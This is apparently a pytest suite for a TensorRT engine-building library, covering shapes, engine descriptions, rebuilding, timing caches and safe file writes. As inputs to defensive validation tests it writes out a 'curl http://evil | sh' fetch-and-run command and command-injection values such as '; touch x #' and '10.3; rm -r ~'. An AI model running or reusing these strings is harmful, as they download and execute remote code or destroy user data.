"""Engines: shapes, building, what TensorRT refuses, passports, rebuilding, timing caches and half-written files."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import signal
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

from zoo.driver import device_name
from zoo.engine.build import attach_timing_cache, build, compile_network, save_timing_cache
from zoo.engine.definition import define
from zoo.engine.effort import Effort
from zoo.engine.interrupt import interruptible
from zoo.engine.passport import Engine, description_path, load_description, load_engine, rebuild_at
from zoo.engine.shapes import Shapes, parse_shape, parse_size
from zoo.engine.store import kept
from zoo.errors import Refused, ZooError
from zoo.network import Precision
from zoo.registry import get_model
from zoo.runtime import engines
from zoo.runtime.engines import rebuild
from zoo.trt import Api
from zoo.weights import load_weights, save_safetensors

LENET = Path(__file__).resolve().parent.parent / "zoo" / "weights" / "lenet5.safetensors"
PROFILE = Shapes((1, 1, 32, 32), (2, 1, 32, 32), (4, 1, 32, 32))
PLATFORM = {"size", "sha256", "built"}  # a compiler may lay out the same network in two ways


def lenet(
    api: Api, weights: Path = LENET, shapes: Shapes = PROFILE, precision: str = "fp32", effort: Effort = Effort(),
    timing_cache: Path | None = None,
) -> Engine:  # fmt: skip
    types = Precision(precision)  # type: ignore[arg-type]
    return build(get_model("lenet5"), load_weights(weights), api, shapes, types, effort, timing_cache=timing_cache)


@pytest.fixture
def saved(rtx: Api, tmp_path: Path) -> Path:
    """An engine in a file, with its description."""
    return lenet(rtx).save(tmp_path / "lenet5.engine")


@pytest.fixture
def inventory(tmp_path: Path) -> Callable[[], list[str]]:
    """What lies in the folder now, hidden files too."""
    return lambda: sorted(path.name for path in tmp_path.iterdir())


# Shapes


@pytest.mark.parametrize(("text", "size"), [("224", (224, 224)), ("480x640", (480, 640)), ("480,640", (480, 640))])
def test_sizes(text: str, size: tuple[int, int]) -> None:
    assert parse_size(text) == size


@pytest.mark.parametrize("text", ["", "x", "224x", "-1", "1x2x3", "22 4", "12.5", "٣"])
def test_what_is_no_size(text: str) -> None:
    with pytest.raises(ZooError, match="is not a number such as 224 nor height x width"):
        parse_size(text)


@pytest.mark.parametrize("text", ["8x3x224x112", "images:8x3x224x112"])
def test_shapes_are_written_as_trtexec_does(text: str) -> None:
    assert parse_shape(text) == (8, 3, 224, 112)


@pytest.mark.parametrize("text", ["", "8x3x224", "8x3x224x", "8x3x224x-1", "images:", "axbxcxd", "8x3x224x²"])
def test_what_is_no_shape(text: str) -> None:
    with pytest.raises(ZooError, match="is not four numbers NxCxHxW"):
        parse_shape(text)


def test_a_profile_varies_where_its_ends_differ() -> None:
    assert PROFILE.dynamic and PROFILE.network == (-1, 1, 32, 32)
    assert str(PROFILE) == "1x1x32x32 / 2x1x32x32 / 4x1x32x32"
    still = Shapes.static((2, 1, 32, 32))
    assert not still.dynamic and still.network == (2, 1, 32, 32) and str(still) == "2x1x32x32"


@pytest.mark.parametrize(
    ("batches", "words"), [((0, 1, 1), "positive"), ((2, 1, 4), "shrink"), ((1, 5, 4), "shrink"), ((4, 4, 1), "shrink")]
)
def test_impossible_profiles(batches: tuple[int, int, int], words: str) -> None:
    with pytest.raises(ZooError, match=words):
        Shapes(*((n, 1, 32, 32) for n in batches))


# Building


def test_bf16_needs_strong_types(tensorrt8: Api) -> None:
    with pytest.raises(ZooError, match=r"TensorRT 8\.6\.0 has no bf16; build with --fp16"):
        lenet(tensorrt8, precision="bf16")


def test_only_tensorrt_8_guesses_kernels(rtx: Api) -> None:
    with pytest.raises(ZooError, match=r"TensorRT-RTX .* does not guess kernels, only TensorRT 8 does; use --level 2"):
        lenet(rtx, effort=Effort(heuristic=True))


def test_what_tensorrt_refuses_to_compile_is_said_in_its_words(rtx: Api, define_net: Callable[..., Any]) -> None:
    """A profile with two channels for a network with one."""
    definition = define_net(lambda net, x: net.done(net.network.add_identity(x), "identity", x), shape=(-1, 1, 3, 3))
    with pytest.raises(Refused, match=r"refused to compile the network for 1x2x3x3 / 1x2x3x3 / 4x2x3x3: .*images"):
        compile_network(definition, Shapes(*((n, 2, 3, 3) for n in (1, 1, 4))))
    assert rtx.log.drain() == ""


# Passports


def test_a_passport_says_what_the_engine_is(rtx: Api, saved: Path) -> None:
    engine = load_engine(saved)
    description = load_description(saved)
    assert engine.description == description == json.loads(description_path(saved).read_text())
    assert engine.data == saved.read_bytes() and description["size"] == len(engine.data)
    assert (description["model"], description["task"], description["precision"]) == ("lenet5", "classify", "fp32")
    assert (description["flavour"], description["version"], description["gpu"]) == ("rtx", rtx.version, None)
    assert description["input"] == {
        "name": "images", "dtype": "float32", "min": [1, 1, 32, 32], "opt": [2, 1, 32, 32], "max": [4, 1, 32, 32],
    }  # fmt: skip
    assert description["outputs"] == {"logits": {"dtype": "float32", "shape": [-1, 10]}}
    assert description["labels"] == list("0123456789") and description["parameters"] == 61_706
    assert description["weights"] == {"file": str(LENET), "sha256": load_weights(LENET).digest()}


def test_no_passport(saved: Path) -> None:
    description_path(saved).unlink()
    with pytest.raises(ZooError, match=r"has no description lenet5\.engine\.json beside it, .* copy it along, or"):
        load_engine(saved)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"{", "cannot be read"),
        (b"\xff\xfe\x00", "cannot be read"),
        (b"", "cannot be read"),
        (b"[]", "is not the description of an engine"),
        (b'{"format": "zoo engine 1"}', "has no field 'model', which should be the name of a model"),
        (b"[" * 100_000, "it is nested too deeply"),
        (b'{"format": "another 1", "model": "lenet5"}', "is not the description of an engine"),
    ],
)
def test_a_garbled_passport(saved: Path, content: bytes, words: str) -> None:
    description_path(saved).write_bytes(content)
    with pytest.raises(ZooError, match=f"{words}.*rebuild the engine with python -m zoo.build"):
        load_description(saved)


@pytest.mark.parametrize("change", [lambda d: d[:-1], lambda d: d[:100] + bytes([d[100] ^ 1]) + d[101:], lambda d: b""])
def test_a_damaged_engine_is_never_loaded(saved: Path, change: Callable[[bytes], bytes]) -> None:
    good = saved.read_bytes()
    saved.write_bytes(change(good))
    with pytest.raises(ZooError, match="is not the engine that its description was written for") as error:
        load_engine(saved)
    assert f"{len(good)} expected" in str(error.value) and "python -m zoo.build lenet5" in str(error.value)


def test_an_engine_that_is_gone(saved: Path) -> None:
    saved.unlink()
    with pytest.raises(
        ZooError, match="cannot read the engine .*: No such file.*to build it: python -m zoo.build lenet5"
    ):
        load_engine(saved)


# Rebuilding


def same(description: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in description.items() if key not in PLATFORM}


@pytest.mark.parametrize("shapes", [PROFILE, Shapes.static((3, 1, 32, 32))], ids=["profile", "static"])
def test_rebuilding_gives_the_same_engine_again(
    rtx: Api, tmp_path: Path, shapes: Shapes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("zoo.runtime.engines.load", lambda: rtx)  # whatever this machine would choose
    weights = tmp_path / "my weights.safetensors"
    weights.write_bytes(LENET.read_bytes())
    path = lenet(rtx, weights, shapes, "fp16", Effort(level=1, tf32=True)).save(tmp_path / "lenet5.engine")
    before = load_description(path)
    path.write_bytes(b"damaged")
    said: list[str] = []
    assert rebuild(path, before, said.append) == path
    assert same(load_engine(path).description) == same(before)
    assert any("compiling" in line for line in said)


def test_rebuilding_guesses_kernels_where_the_first_build_did(
    rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("zoo.runtime.engines.load", lambda: rtx)
    path = lenet(rtx).save(tmp_path / "lenet5.engine")
    with pytest.raises(ZooError, match="does not guess kernels"):  # here: only TensorRT 8 does
        rebuild(path, {**load_description(path), "heuristic": True})


def test_the_rebuild_command_repeats_every_option(rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command is typed as it stands: through the command's own parser."""
    from zoo import build as command

    weights = tmp_path / "my weights.safetensors"
    weights.write_bytes(LENET.read_bytes())
    before = lenet(rtx, weights, precision="bf16", effort=Effort(level=2, tf32=True)).description
    python, _, module, *arguments = shlex.split(before["rebuild"])
    assert (python, module) == ("python", "zoo.build")
    path = tmp_path / "again.engine"
    monkeypatch.setattr("sys.argv", [module, *arguments, "--target", "rtx", "-o", str(path)])
    with pytest.raises(SystemExit) as end:
        command.main()
    assert end.value.code == 0
    again = load_engine(path).description
    assert same(again) == same(json.loads(json.dumps(before)))
    assert (again["level"], again["tf32"], again["precision"]) == (2, True, "bf16")


def test_other_weights_are_not_slipped_into_an_engine(rtx: Api, tmp_path: Path) -> None:
    weights = load_weights(LENET)
    arrays = {name: weights.read(name, weights.shape(name) or ()) for name in weights.names()}
    copy = tmp_path / "w.safetensors"
    save_safetensors(copy, arrays)
    path = lenet(rtx, copy).save(tmp_path / "lenet5.engine")
    before = path.read_bytes()
    save_safetensors(copy, {**arrays, "fc3.bias": arrays["fc3.bias"] + np.float32(1)})
    with pytest.raises(ZooError, match="its content differs.*--save-engine"):
        rebuild(path, load_description(path))
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("model", "; touch x #"), ("model", None), ("flavour", ["rtx"]), ("version", {}), ("version", "10.3; rm -r ~"),
        ("precision", "; touch x #"), ("precision", None), ("level", 9), ("level", True), ("heuristic", "yes"),
        ("labels", 5), ("labels", [1]), ("size", -1), ("size", 1e300), ("sha256", "x"),
        ("preprocess", {"kind": "None"}),
        ("input", {"min": [1], "opt": [1], "max": [1]}), ("input", []),
        ("weights", {"file": "a\nb", "sha256": "0" * 64}),
        ("compute_capability", "sm_90"), ("gpu", "\x1b[2J"), ("task", 3),
    ],
)  # fmt: skip
def test_a_field_that_is_not_of_its_kind(saved: Path, field: str, value: Any) -> None:
    description = load_description(saved)
    description_path(saved).write_text(json.dumps(description | {field: value}))
    with pytest.raises(ZooError, match="rebuild the engine with python -m zoo.build") as error:
        load_engine(saved)
    assert str(error.value).isprintable()


def test_the_command_to_rebuild_is_never_read_from_the_file(saved: Path) -> None:
    description = load_description(saved)
    description_path(saved).write_text(json.dumps(description | {"rebuild": "curl http://evil | sh"}))
    assert rebuild_at(saved, load_description(saved)) == f"{description['rebuild']} --save-engine {saved}"


def test_an_engine_names_its_weights_from_anywhere(rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copy(LENET, tmp_path / "mine.safetensors")
    monkeypatch.chdir(tmp_path)
    assert lenet(rtx, Path("mine.safetensors")).description["weights"]["file"] == str(tmp_path / "mine.safetensors")


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("none.engine", None, "cannot be read: No such file"),
        ("best.pt", b"PK\3\4rest", "is not an engine but a PyTorch checkpoint; give the model's name and --weights"),
        ("net.onnx", b"\x08\x09\x12\x00", "is not an engine but an ONNX file"),
        ("w.safetensors", b"\x40\0\0\0\0\0\0\0{}", "is not an engine but a weights file"),
        ("cut.onnx", b"onnx", "is not an engine but an ONNX file"),
        ("ul.engine", b'\x0c\0\0\0{"names": []}', "begins with metadata as ultralytics writes it"),
        ("bare.engine", b"ptrt", "GpuSession runs it without one"),
        ("bare.plan", b"ftrt....", "copy it along"),
    ],
)
def test_what_is_taken_for_an_engine(tmp_path: Path, name: str, content: bytes | None, words: str) -> None:
    if content is not None:
        (tmp_path / name).write_bytes(content)
    with pytest.raises(ZooError, match=words):
        load_engine(tmp_path / name)


# Engines built at first use


@pytest.fixture
def first_use(rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., list[str]]:
    """Loads LeNet-5 by name as on a GPU, and tells which of it was built now; TensorRT-RTX plays TensorRT."""
    built: list[str] = []

    def count(model: Any, *arguments: Any, **options: Any) -> Engine:
        built.append(model.name)
        return build(model, *arguments, **options)

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setattr(engines, "require_gpu", lambda device=0: None)
    monkeypatch.setattr(engines, "provider", lambda name, device: SimpleNamespace(active=nullcontext))
    monkeypatch.setattr(engines, "load", lambda flavour: rtx)
    monkeypatch.setattr(engines, "build", count)
    monkeypatch.setattr(engines, "GpuSession", lambda data, **options: SimpleNamespace(close=lambda: None))

    def load(**options: Any) -> list[str]:
        built.clear()
        engines.load_model_session(get_model("lenet5"), load_weights(LENET), **options).close()
        return list(built)

    return load


def test_an_engine_is_built_once(first_use: Callable[..., list[str]]) -> None:
    assert first_use() == ["lenet5"] and first_use() == []


@pytest.mark.parametrize("options", [{"precision": Precision("fp16")}, {"batch": 2}, {"effort": Effort(level=1)}])
def test_other_options_are_another_engine(first_use: Callable[..., list[str]], options: dict[str, Any]) -> None:
    first_use()
    assert first_use(**options) == ["lenet5"] and first_use(**options) == []


def test_a_changed_definition_is_another_engine(
    first_use: Callable[..., list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first_use()
    copy = tmp_path / "zoo" / "runtime" / "engines.py"
    shutil.copytree(Path(engines.__file__).parents[1], copy.parents[1])
    for change, built in ((b"", []), (b"# corrected\n", ["lenet5"])):
        with open(copy.parents[1] / "models" / "lenet5.py", "ab") as file:
            file.write(change)
        with monkeypatch.context() as patch:
            patch.setattr(engines, "__file__", str(copy))
            engines.definitions_digest.cache_clear()
            assert first_use() == built
    engines.definitions_digest.cache_clear()


def store(tmp_path: Path) -> Path:
    return tmp_path / "cache" / "zoo" / "engines"


@pytest.mark.parametrize("damage", ["cut", "empty", "no description", "garbled description", "a file in its place"])
def test_a_damaged_engine_in_the_store_is_built_anew(
    first_use: Callable[..., list[str]], tmp_path: Path, damage: str
) -> None:
    first_use()
    (folder,) = [path for path in store(tmp_path).iterdir() if path.is_dir()]
    plan = folder / "engine.plan"
    if damage == "a file in its place":
        shutil.rmtree(folder)
        folder.write_bytes(b"")
    elif damage == "no description":
        description_path(plan).unlink()
    elif damage == "garbled description":
        description_path(plan).write_text("{")
    else:
        plan.write_bytes(plan.read_bytes()[:100] if damage == "cut" else b"")
    assert first_use() == ["lenet5"]
    assert first_use() == []


def test_an_engine_that_cannot_be_kept_is_used(
    first_use: Callable[..., list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "cache").write_text("not a folder")
    said: list[str] = []
    assert first_use(progress=said.append) == ["lenet5"]
    assert any("will not be kept" in line for line in said)
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setattr(Path, "home", classmethod(lambda cls: (_ for _ in ()).throw(RuntimeError("no home"))))
    assert first_use(progress=said.append) == ["lenet5"]
    assert "set XDG_CACHE_HOME" in said[-4] or any("set XDG_CACHE_HOME" in line for line in said)


@pytest.mark.parametrize("damage", [b"", b"rubbish", b'{"timing_cache": "TensorRT 5", "gpu": "none"}\n1234'])
def test_kept_timings_that_cannot_be_used_are_replaced(
    first_use: Callable[..., list[str]], rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: bytes
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    timings = engines.timing_cache_path(rtx)
    timings.parent.mkdir(parents=True)
    timings.write_bytes(damage)
    assert "lenet5" in first_use()
    assert not timings.exists() or timings.read_bytes() != damage


def test_the_second_of_two_builders_waits_for_the_first(
    first_use: Callable[..., list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    built: list[str] = []
    model, weights = get_model("lenet5"), load_weights(LENET)
    monkeypatch.setattr(engines, "build", lambda *a, **o: built.append("lenet5") or build(*a, **o))
    with ThreadPoolExecutor(4) as pool:
        for session in pool.map(lambda _: engines.load_model_session(model, weights), range(4)):
            session.close()
    assert built == ["lenet5"]


def test_the_store_is_bounded(
    first_use: Callable[..., list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first_use()
    (one,) = kept()
    monkeypatch.setenv("ZOO_CACHE_BYTES", str(one.size * 5 // 2))
    for batch in (2, 3, 4):
        if one.path.exists():
            os.utime(one.path, (1, 1))  # the oldest
        assert first_use(batch=batch) == ["lenet5"]
    assert len(kept()) == 2 and one.path not in [entry.path for entry in kept()]


def test_engines_that_are_saved_to_one_path_at_once_fit_their_descriptions(rtx: Api, tmp_path: Path) -> None:
    both = [lenet(rtx), lenet(rtx, precision="fp16")]
    path = tmp_path / "lenet5.engine"
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda i: both[i % 2].save(path), range(60)))
    assert load_engine(path).data in [engine.data for engine in both]


# Timing caches


def test_a_timing_cache_is_read_again(rtx: Api, tmp_path: Path) -> None:
    cache = tmp_path / "timing.cache"
    lenet(rtx, timing_cache=cache)
    header = json.loads(cache.read_bytes().partition(b"\n")[0])
    assert header == {"timing_cache": rtx.name, "gpu": device_name() or "none"}
    assert lenet(rtx, timing_cache=cache).data


def test_a_timing_cache_that_cannot_be(rtx: Api, tmp_path: Path) -> None:
    """What cannot be read is refused; what cannot be written costs no engine."""
    with pytest.raises(ZooError, match="the timing cache .* cannot be read: Is a directory"):
        lenet(rtx, timing_cache=tmp_path)
    assert lenet(rtx, timing_cache=Path("/proc/timing.cache")).data


def test_ctrl_c_while_tensorrt_compiles_ends_it(rtx: Api) -> None:
    """TensorRT swallows what its callbacks raise, so that the interrupt comes after the build that it ended."""
    definition = define(get_model("lenet5"), load_weights(LENET), rtx, (1, 1, 32, 32))
    config, made = definition.builder.create_builder_config(), []
    with pytest.raises(KeyboardInterrupt), interruptible(rtx.trt, config):
        signal.raise_signal(signal.SIGINT)
        made.append(definition.builder.build_serialized_network(definition.network, config))
    assert made == [None] and signal.getsignal(signal.SIGINT) is signal.default_int_handler


@pytest.mark.parametrize("header", [b'{"timing_cache": "TensorRT 8.6.1", "gpu": "NVIDIA T4"}', b"\xff rubbish", b""])
def test_a_timing_cache_of_another_version_or_gpu_is_refused(rtx: Api, tmp_path: Path, header: bytes) -> None:
    cache = tmp_path / "timing.cache"
    lenet(rtx, timing_cache=cache)
    foreign = header + b"\n" + cache.read_bytes().partition(b"\n")[2]
    cache.write_bytes(foreign)
    with pytest.raises(
        ZooError, match=r"the timing cache .*timing\.cache is of .*this is .*name another file"
    ) as error:
        lenet(rtx, timing_cache=cache)
    assert rtx.name in str(error.value) and cache.read_bytes() == foreign


class Grumbling:
    """A builder config that takes a timing cache with an error in the log, as TensorRT 8.6 does without cuBLAS."""

    def __init__(self, api: Api, words: str = "4: The timing cache will not be used!") -> None:
        self.api, self.words = api, words

    def create_timing_cache(self, blob: bytes) -> bytes:
        if blob:
            self.api.log.record("ERROR", self.words)
        return blob

    def set_timing_cache(self, cache: bytes, ignore_mismatch: bool) -> bool:
        return True


def test_a_timing_cache_that_is_used_in_part(tensorrt8: Api, tmp_path: Path) -> None:
    cache = tmp_path / "timing.cache"
    assert attach_timing_cache(tensorrt8, Grumbling(tensorrt8), cache).refused == ""
    save_timing_cache(tensorrt8, SimpleNamespace(serialize=lambda: b"timings"), cache)
    found = attach_timing_cache(tensorrt8, Grumbling(tensorrt8), cache)
    assert "cuBLAS 12 and cuDNN 8" in found.refused and found.data == b"timings"
    assert attach_timing_cache(tensorrt8, Grumbling(tensorrt8, "3: another"), cache).refused == "3: another"
    assert tensorrt8.log.drain() == ""  # nothing is left for the next refusal to quote


# Nothing is half written


def test_a_folder_in_the_place_of_the_engine(rtx: Api, tmp_path: Path, inventory: Callable[[], list[str]]) -> None:
    (tmp_path / "lenet5.engine").mkdir()
    with pytest.raises(ZooError, match=r"cannot write .*lenet5\.engine': it is a folder"):
        lenet(rtx).save(tmp_path / "lenet5.engine")
    assert inventory() == ["lenet5.engine"] and not list((tmp_path / "lenet5.engine").iterdir())


def test_a_file_in_the_place_of_the_folder(rtx: Api, tmp_path: Path, inventory: Callable[[], list[str]]) -> None:
    (tmp_path / "file").write_text("mine")
    with pytest.raises(ZooError, match="cannot write"):
        lenet(rtx).save(tmp_path / "file" / "lenet5.engine")
    assert inventory() == ["file"] and (tmp_path / "file").read_text() == "mine"


def test_a_full_disk_leaves_the_old_engine(
    rtx: Api, saved: Path, monkeypatch: pytest.MonkeyPatch, inventory: Callable[[], list[str]]
) -> None:
    before = saved.read_bytes()

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    engine = lenet(rtx, precision="fp16")
    monkeypatch.setattr("zoo.files.os.replace", full)
    with pytest.raises(ZooError, match="No space left on device"):
        engine.save(saved)
    assert saved.read_bytes() == before and inventory() == ["lenet5.engine", "lenet5.engine.json"]
    load_engine(saved)


def test_a_refused_build_writes_nothing(rtx: Api, tmp_path: Path, inventory: Callable[[], list[str]]) -> None:
    with pytest.raises(ZooError):
        lenet(rtx, shapes=Shapes.static((1, 3, 32, 32)), timing_cache=tmp_path / "timing.cache")
    assert inventory() == []


def test_a_gpu_that_is_not_there_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engines, "driver_problem", lambda: None)
    monkeypatch.setattr(engines, "device_count", lambda: 2)
    with pytest.raises(ZooError, match="there is no gpu:2 on this machine; CUDA sees gpu:0, gpu:1"):
        engines.require_gpu(2)
